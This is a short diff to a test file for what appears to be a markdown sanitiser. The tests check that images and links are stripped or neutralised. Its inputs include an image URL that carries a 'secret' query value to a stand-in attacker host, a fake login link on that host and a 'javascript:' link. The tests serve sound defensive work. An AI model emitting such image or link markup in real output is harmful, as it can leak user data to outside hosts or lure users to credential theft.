@@ -27,7 +27,7 @@ test('what never ends is cut between words', () => {
 });
 
 test.each([
-  ['![a cat](https://evil.example/x.png?q=secret)', 'a cat'],
+  ['Here ![a cat](https://evil.example/x.png?q=secret) it is', 'Here it is'],
   ['![](https://evil.example/x.png)', ''],
   ['See [your jobs](https://evil.example/login) now', 'See your jobs now'],
   ['See [https://ute.example](javascript:alert) now', 'See (link left out) now'],
